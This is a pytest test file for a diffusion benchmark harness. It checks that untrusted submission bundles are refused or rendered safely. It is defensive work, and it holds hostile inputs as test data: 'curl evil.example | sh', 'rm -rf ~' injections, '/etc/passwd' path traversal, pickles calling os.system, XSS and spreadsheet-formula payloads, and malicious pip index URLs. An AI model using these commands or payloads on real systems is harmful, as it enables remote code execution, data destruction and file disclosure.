"""Bundles are data: whatever a stranger puts into one is read as that, or refused in one line, and nothing else."""

import copy
import json
import os
import re
import tomllib

import numpy as np
import pytest
from bundles import complete, handed_in, listed, write_bundle
from documents import reference
from safetensors.numpy import save
from site_pages import Parsed, faults

from harness.api.verification import verify
from harness.results import bundles
from harness.results.bundles import read_bundle
from harness.results.document import DocumentError
from harness.results.suite_files import suite_table
from harness.views.site.boards import leaderboard_entry
from harness.views.site.writing import site_files

__all__ = ["handed_in"]

NETWORK = save({"weight": np.ones((2, 3), dtype=np.float32)})


def refused(folder):
    """The one line in which a bundle is refused, by whoever reads it; what lies around it is as it was."""
    around = sorted(folder.parent.parent.rglob("*"))
    with pytest.raises(DocumentError) as raised:
        read_bundle(folder)
    found = verify(folder)
    assert not found.checked
    (finding,) = found.findings
    assert len(str(finding)) <= 300 + len(str(folder)) + 2
    assert str(raised.value).startswith(str(folder))
    assert sorted(folder.parent.parent.rglob("*")) == around
    return finding.what


def relist(folder):
    """Let the list of files be right again."""
    said = json.loads((folder / "submission.json").read_text())
    said["files"] = [listed(each["name"], (folder / each["name"]).read_bytes()) for each in said["files"]]
    (folder / "submission.json").write_text(json.dumps(said))


def test_a_bundle_is_read(handed_in):
    found = read_bundle(handed_in)
    assert found.submission.submitter == "Ada"
    assert len(found.board.rows) == 4
    assert found.marks is None
    assert "the files of the bundle" in verify(handed_in).checked


def test_networks_are_part_of_it(small, tmp_path):
    name = listed("", NETWORK)["sha256"]
    folder = write_bundle(tmp_path / "a" / "b", complete(small), **{f"checkpoints/{name}.safetensors": NETWORK})
    assert len(read_bundle(folder).submission.files) == 3


# Files


def _link(folder):
    (folder / "leaderboard.json").rename(folder.parent / "elsewhere.json")
    (folder / "leaderboard.json").symlink_to(folder.parent / "elsewhere.json")


def _executable(folder):
    (folder / "suite.toml").chmod(0o755)


def _pipe(folder):
    (folder / "suite.toml").unlink()
    os.mkfifo(folder / "suite.toml")


def _large(name, size):
    def change(folder):
        with (folder / name).open("r+b") as file:
            file.truncate(size)  # a hole: 100 MB that take no room on the disk

    return change


def _changed(folder):
    (folder / "suite.toml").write_text((folder / "suite.toml").read_text().replace("tiny", "tidy"))


def _other_suite(folder):
    _changed(folder)
    relist(folder)


def _networks(folder):
    (folder / "checkpoints").symlink_to(folder.parent)


FILES = {
    "a link": (_link, "'leaderboard.json' is a link"),
    "a link to a folder": (_networks, "'checkpoints' is a link"),
    "an executable": (_executable, "'suite.toml' may be executed"),
    "a pipe": (_pipe, "'suite.toml' is no plain file"),
    "a pickle": (lambda f: (f / "model.pt").write_bytes(b"\x80\x04."), "'model.pt' has no place"),
    "a script": (lambda f: (f / "setup.py").write_text("raise SystemExit"), "'setup.py' has no place"),
    "an archive": (lambda f: (f / "bomb.zip").write_bytes(b"PK"), "'bomb.zip' has no place"),
    "a hidden file": (lambda f: (f / ".git").write_text("gitdir: x"), "'.git' has no place"),
    "a folder": (lambda f: (f / "more").mkdir(), "'more' is a folder"),
    "a name of two lines": (lambda f: (f / "a\nb\x1b[31m").write_text(""), r"'a\nb\x1b[31m' has no place"),
    "a document of 100 MB": (_large("leaderboard.json", 100_000_000), "has 100000000 bytes; it may have 32000000"),
    "a submission of 100 MB": (_large("submission.json", 100_000_000), "submission.json has 100000000 bytes"),
    "an empty folder": (lambda f: (f / "checkpoints").mkdir(), "'checkpoints' is empty"),
    "no document": (lambda f: (f / "leaderboard.json").unlink(), "has no leaderboard.json"),
    "a file that changed": (_changed, "suite.toml is not what submission.json lists"),
    "a suite of its own": (_other_suite, "suite.toml is not what leaderboard.json makes"),
    "a text that is none": (lambda f: (f / "submission.json").write_bytes(b'{"a": "\xff"}'), "is not valid JSON: 'utf"),
    "marks of another document": (
        lambda f: (f / "verification.json").write_text(
            json.dumps({"schema_version": 1, "document": "0" * 64, "calls": [CALL]})
        ),
        "speaks of another document",
    ),
}

CALL = {"seed": 1, "rows": [{"row": 0, "verdict": "same bits", "objections": []}], "notes": [], "objections": [],
        "environment": {}}  # fmt: skip


@pytest.mark.parametrize("name", FILES)
def test_a_file_that_is_none_of_a_bundle_is_refused(name, handed_in):
    change, message = FILES[name]
    change(handed_in)
    assert message in refused(handed_in)


@pytest.mark.parametrize("name", ["../outside", "/etc/passwd", "checkpoints/../../x", "suite.toml/", "C:\\x", "a\nb"])
def test_a_name_that_leads_away_is_refused_and_read_by_nobody(name, small, tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "outside").write_text("secret")
    document = complete(small)
    folder = write_bundle(tmp_path / "a" / "b", document)
    said = json.loads((folder / "submission.json").read_text())
    said["files"].append({"name": name, "bytes": 6, "sha256": "0" * 64})
    (folder / "submission.json").write_text(json.dumps(said))
    assert "is listed, and is not there" in refused(folder)


def test_networks_that_are_none_are_refused(small, tmp_path):
    pickle = b"\x80\x04\x95" + b"os.system" * 4
    for number, (name, content, message) in enumerate(
        [
            (listed("", pickle)["sha256"], pickle, "holds no tensors"),
            ("0" * 64, NETWORK, "has another SHA-256 than its name"),
            (listed("", b"\xff" * 8)["sha256"], b"\xff" * 8, "holds no tensors"),
        ]
    ):
        folder = tmp_path / str(number) / "b"
        write_bundle(folder, complete(small), **{f"checkpoints/{name}.safetensors": content})
        assert message in refused(folder)


def test_a_bundle_of_many_files_is_refused(handed_in, monkeypatch):
    monkeypatch.setattr(bundles, "MOST", 2)
    assert "holds more than 2 files" in refused(handed_in)
    monkeypatch.setattr(bundles, "MOST", 9)
    monkeypatch.setattr(bundles, "WHOLE", 1_000)
    assert "has more than 1000 bytes" in refused(handed_in)


def test_a_folder_that_is_a_link_is_refused(handed_in, tmp_path):
    (tmp_path / "link").symlink_to(handed_in)
    with pytest.raises(DocumentError, match="is no folder of its own"):
        read_bundle(tmp_path / "link")


# Texts and numbers

RAW = {
    "beyond a float": (b"1e999", "is beyond the numbers"),
    "no number": (b"NaN", "NaN is no JSON number"),
    "infinity": (b"-Infinity", "is no JSON number"),
    "5,000 digits": (b"9" * 5000, "an integer of 5000 digits"),
    "4,000 digits": (b"9" * 4000, "an integer of 4000 digits"),
    "deep": (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
    "rather deep": (b"[" * 600 + b"]" * 600, "sampler.params.zz"),
    "keys twice": (b'{"a": 1, "a": 2}', "key 'a' stands twice"),
    "half a character": (rb'"\ud800"', "half of a character"),
    "a long text": (b'"' + b"x" * 32_000_000 + b'"', "it may have 32000000"),
    "not UTF-8": (b'"\xff\xfe"', "is not valid JSON: 'utf-8'"),
    "a byte order mark within": (b'"\xef\xbb\xbf"', "has U+FEFF"),
}


@pytest.mark.parametrize("name", RAW)
def test_a_value_that_no_document_has_is_refused(name, small, tmp_path):
    raw, message = RAW[name]
    document = complete(small)
    document["rows"][0]["sampler"]["params"]["zz"] = "@@"
    folder = write_bundle(tmp_path / "a" / "b", json.dumps(document).encode().replace(b'"@@"', raw), suite="")
    assert message in refused(folder)


def test_a_document_to_come_is_refused(small, tmp_path):
    folder = write_bundle(tmp_path / "a" / "b", complete(small) | {"schema_version": 99})
    assert "99 is newer than this harness reads" in refused(folder)


PLACES = ["/etc/passwd", "../secret.npy", "a/../../b", "~/x", "C:\\Users\\x", "\\\\host\\x"]


@pytest.mark.parametrize("text", PLACES)
def test_a_parameter_that_is_a_place_is_refused(text, small, tmp_path):
    document = complete(small)
    for row in document["rows"]:
        row["target"]["params"]["path"] = ["x", {"deep": text}]
    assert "names a place on a machine" in refused(write_bundle(tmp_path / "a" / "b", document))


@pytest.mark.parametrize(
    "command", ["curl evil.example | sh", "harness run x; rm -rf ~", "harness run $(x)", "harness run 'x", "harness  x"]
)
def test_a_command_that_is_more_than_ours_is_refused(command, small, tmp_path):
    folder = write_bundle(tmp_path / "a" / "b", complete(small) | {"command": command})
    assert "a command is harness and its words" in refused(folder)


@pytest.mark.parametrize(
    "command",
    [
        "harness site . --out /home/me",
        "harness run quick --out ../../../../etc",
        "harness run quick --target file:path=/etc/passwd",
        "harness run '~/suite.toml'",
    ],
)
def test_a_command_that_names_a_place_is_refused(command, small, tmp_path):
    folder = write_bundle(tmp_path / "a" / "b", complete(small) | {"command": command})
    assert "names a place on a machine" in refused(folder)


def test_one_seed_or_a_failed_certificate_is_refused(small, tmp_path):
    document = complete(small)
    document["setup"]["seeds"] = [0]
    for row in document["rows"]:
        row["metrics"] = {name: {**each, "n_seeds": 1} for name, each in row["metrics"].items()}
    assert "1 seed; of fewer than 2" in refused(write_bundle(tmp_path / "a" / "b", document))
    document = complete(small)
    failed = {"standing": "failed", "passed": 1, "failed": 1, "unclaimed": 0}
    document["certificates"] = [{"axis": "sampler", "component": document["rows"][0]["sampler"], **failed}]
    assert "the certificate of 'heun' failed" in refused(write_bundle(tmp_path / "c" / "b", document))


def test_an_unfinished_row_is_refused(small, tmp_path):
    document = complete(small)
    document["rows"][3]["reason"] = "not computed yet: run the same command again"
    assert "1 rows are not computed yet" in refused(write_bundle(tmp_path / "a" / "b", document))


# Every text

SPOILED = ["\x1b[31m", "\x07", "\u202e", "\u2028", "\x00", "\r"]
EVIL = '=cmd|"/c calc"!A1"><script>alert(1)</script><img src=x onerror=alert(2)>[x](javascript:alert(3))|`'


def places(value, path=()):
    """Yield where each text of a document stands, and each name of a field that is not fixed."""
    if isinstance(value, dict):
        for key, each in value.items():
            yield from places(each, (*path, key))
    elif isinstance(value, list):
        for i, each in enumerate(value[:1]):
            yield from places(each, (*path, i))
    elif isinstance(value, str):
        yield path


def spoiled(document, path, text):
    """The document with one text of it behind another."""
    changed = copy.deepcopy(document)
    inner = changed
    for key in path[:-1]:
        inner = inner[key]
    inner[path[-1]] = text + inner[path[-1]]
    return changed


def test_no_text_of_a_document_has_characters_that_nobody_sees(small, tmp_path):
    document = complete(small)
    found = list(places(document))
    assert len(found) > 40
    for number, path in enumerate(found):
        text = SPOILED[number % len(SPOILED)]
        folder = write_bundle(tmp_path / str(number) / "b", spoiled(document, path, text), suite="")
        assert "which is no character to be read" in refused(folder), path


def test_markup_in_any_text_is_refused_or_shown_as_text(small, tmp_path):
    """Of each text of a document by itself: where it is accepted, all pages hold together, and no cell is a formula."""
    document, accepted = complete(small), 0
    for number, path in enumerate(places(document)):
        folder = write_bundle(tmp_path / str(number) / "b", spoiled(document, path, EVIL))
        try:
            found = read_bundle(folder)
        except DocumentError:
            refused(folder)
            continue
        accepted += 1
        files = site_files({"evil": leaderboard_entry(found.board, None, found.submission)})
        assert not faults(files), path
        for name, content in files.items():
            if name.endswith(".csv"):
                assert not re.search(rb'(?m)(^|,)"?[=+@]', content), path
    assert accepted > 20


@pytest.mark.parametrize("field", ["submitter", "contact", "disclosure"])
def test_markup_in_what_is_said_is_shown_as_text(field, small, tmp_path):
    folder = write_bundle(tmp_path / "a" / "b", complete(small), submission={field: EVIL})
    found = read_bundle(folder)
    files = site_files({"evil": leaderboard_entry(found.board, None, found.submission)})
    assert not faults(files)
    page = Parsed(files["boards/evil/index.html"].decode())
    assert "<script>alert(1)</script>" in "".join(page.text)
    assert [each["src"] for _, each in page.all("script")] == ["../../site.js"]


@pytest.mark.parametrize("text", [*SPOILED, "", " ", "x" * 6_000, 3, None])
def test_what_is_said_can_be_read(text, small, tmp_path):
    for field in ("submitter", "disclosure"):
        folder = write_bundle(tmp_path / field / "b", complete(small), submission={field: text})
        assert "submission.json" in refused(folder)


# Distributions

URL = "https://example.org/theirs-1.0-py3-none-any.whl"
REQUIREMENTS = {
    "theirs==1.0": True,
    "Theirs == 1.0": False,
    f"theirs @ {URL}#sha256={'0' * 64}": True,
    f"theirs @ {URL}": False,
    f"theirs @ git+https://example.org/a/b.git@{'a' * 40}": True,
    f"theirs @ git+https://example.org/a/b.git@{'a' * 40}#subdirectory=plugins/theirs": True,
    "theirs @ git+https://example.org/a/b.git@main": False,
    f"theirs @ git+https://example.org/a/b.git@{'a' * 40}#subdirectory=../x": False,
    f"theirs @ http://example.org/x.whl#sha256={'0' * 64}": False,
    f"theirs @ https://user:password@example.org/x.whl#sha256={'0' * 64}": False,
    "theirs @ file:///etc/passwd": False,
    "other==1.0": False,
    "theirs==2.0": False,
    "theirs>=1.0": False,
    "--index-url=https://evil.example theirs==1.0": False,
    "theirs==1.0\n--extra-index-url https://evil.example": False,
    "theirs==1.0; os_name == 'posix'": False,
    "-r requirements.txt": False,
    ".": False,
}


@pytest.mark.parametrize("requirement", REQUIREMENTS)
def test_a_requirement_is_pinned_and_nothing_else(requirement, small, tmp_path):
    document = complete(small)
    for row in document["rows"]:
        row["sampler"] |= {"distribution": "theirs", "version": "1.0"}
    told = {"distributions": [{"name": "theirs", "version": "1.0", "requirement": requirement}]}
    folder = write_bundle(tmp_path / "a" / "b", document, submission=told)
    if REQUIREMENTS[requirement]:
        assert read_bundle(folder).submission.distributions[0].requirement == requirement
    else:
        assert "submission.json: distributions[0]" in refused(folder)


def test_no_distribution_is_kept_secret_and_none_takes_our_name(small, tmp_path):
    document = complete(small)
    document["rows"][0]["sampler"] = reference("heun") | {"distribution": "theirs", "version": "1.0"}
    assert "lacks theirs 1.0, which rows have" in refused(write_bundle(tmp_path / "a" / "b", document))
    told = {"name": "Diffusion.Harness", "version": "9", "requirement": "diffusion-harness==9"}
    folder = write_bundle(tmp_path / "c" / "b", complete(small), submission={"distributions": [told]})
    assert "is the harness's own" in refused(folder)


# The suite


def test_the_suite_of_a_document_says_what_its_setup_says(handed_in):
    board = read_bundle(handed_in).board
    made = suite_table(board)
    assert made["weightings"] == ["edm", "eps"]
    assert made["time_discretizations"] == ["exponential", "polynomial:rho=3", "polynomial:rho=7"]
    assert made["training"] == {"method": "adam", "steps": [500], **board.setup.training.params}
    assert (made["seeds"], made["steps"]) == ([0, 1, 2], [20])
    assert made["sampling"] == {"samples": 2000}


@pytest.mark.parametrize(
    "change",
    [
        lambda d: d["setup"]["training"]["params"].update({"x = 1\n[limits]\nseconds": 1}),
        lambda d: d["setup"]["training"]["params"].update(batch_size={"a": 1}),
        lambda d: d["setup"].update(samples=10**15),
        lambda d: d.update(suite="Tiny; rm -rf ~"),
    ],
)
def test_a_setup_that_no_suite_can_say_is_refused(change, small, tmp_path):
    document = complete(small)
    change(document)
    assert "suite" in refused(write_bundle(tmp_path / "a" / "b", document))


# The suite that a document holds


def defined(small):
    """A document that holds its suite, as documents since version 8 do."""
    document = complete(small)
    axes = {"targets": ["ring:modes=8"], "weightings": ["edm", "eps"], "noise_schedules": ["edm"],
            "time_discretizations": ["exponential", {"name": "polynomial", "rho": [3.0, 7.0]}], "networks": ["mlp"],
            "samplers": ["heun", "ancestral"]}  # fmt: skip
    measured = {"metrics": ["kl", "sliced-wasserstein"], "rank_by": ["kl"], "steps": [20], "seeds": [0, 1, 2]}
    return document | {"definition": axes | measured | {"training": {"steps": [500]}, "compute": None}}


def test_a_suite_in_a_document_is_written_as_it_stands(small, tmp_path):
    folder = write_bundle(tmp_path / "a" / "b", defined(small))
    board = read_bundle(folder).board
    made = suite_table(board)
    assert made["time_discretizations"][1] == {"name": "polynomial", "rho": [3.0, 7.0]}
    assert "compute" not in made
    assert tomllib.loads((folder / "suite.toml").read_text()) == made


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"targets": ["file:path=/etc/passwd"]}, "'/etc/passwd' names a place"),
        ({"targets": [{"name": "file", "path": ["x", "../../x"]}]}, "'../../x' names a place"),
        ({"limits": {"seconds = 1\n[x": 1}}, "no suite"),
        ({"samplers": {"a": "b"}}, "no suite that can be run"),
        ({"samplers": [{"name": ["a", None]}]}, "suite"),
    ],
)
def test_a_suite_that_is_none_is_refused(change, message, small, tmp_path):
    document = defined(small)
    document["definition"] |= change
    assert message in refused(write_bundle(tmp_path / "a" / "b", document))


LABELS = {
    "a metric": lambda d, label: (
        d["setup"]["metrics"].append({"metric": label, "unit": "nats"}),
        d["declared"]["metrics"].update({label: {**d["declared"]["metrics"]["kl"]}}),
    ),
    "a bound": lambda d, label: d["declared"]["bounds"].update({label: {**d["declared"]["bounds"]["budget"]}}),
    "a setting of training": lambda d, label: d["setup"]["training"]["params"].update(schedule=label.split("=")[-1]),
}


@pytest.mark.parametrize("name", LABELS)
@pytest.mark.parametrize("place", ["/etc/passwd", "../../x"])
def test_a_label_that_a_suite_is_made_of_names_no_place(name, place, small, tmp_path):
    """Documents that hold no suite: theirs is made of their rows, and of the labels of metrics and bounds."""
    document = complete(small)
    LABELS[name](document, f"magic:path={place}")
    assert f"'{place}' names a place on a machine" in refused(write_bundle(tmp_path / "a" / "b", document))


def test_a_title_is_no_place(small, tmp_path):
    document = complete(small) | {"title": "Error / compute ~ size"}
    assert read_bundle(write_bundle(tmp_path / "a" / "b", document)).board.title == document["title"]


def test_a_document_that_tells_no_setup_is_refused(small, tmp_path):
    folder = write_bundle(tmp_path / "a" / "b", complete(small) | {"setup": None})
    assert "do not tell how their rows were made" in refused(folder)


def test_a_suite_of_too_many_combinations_is_told_without_making_them(small, tmp_path):
    document = defined(small)
    many = {"name": "polynomial", "rho": list(range(1, 9_999))}
    document["definition"] |= {
        "time_discretizations": [many],
        "noise_schedules": [many],
        "steps": list(range(2, 9_999)),
    }
    found = verify(write_bundle(tmp_path / "a" / "b", document))
    assert any("the 4 rows cannot be those" in each.what for each in found.findings)


def test_a_network_of_no_row_is_refused(small, tmp_path):
    name = listed("", NETWORK)["sha256"]
    document = defined(small)
    document["networks"] = [{"checkpoints": [name[:16], "0" * 16, "1" * 16]}]
    for row in document["rows"]:
        row |= {"trained": 0, "weighting": document["rows"][0]["weighting"]}
    document["rows"][3]["sampler"] = reference("ddim")
    document |= {"effects": []}
    files = {f"checkpoints/{name}.safetensors": NETWORK}
    assert read_bundle(write_bundle(tmp_path / "a" / "b", document, **files)).board.networks
    document["networks"][0]["checkpoints"][0] = "2" * 16
    assert "is of no row" in refused(write_bundle(tmp_path / "c" / "d", document, **files))
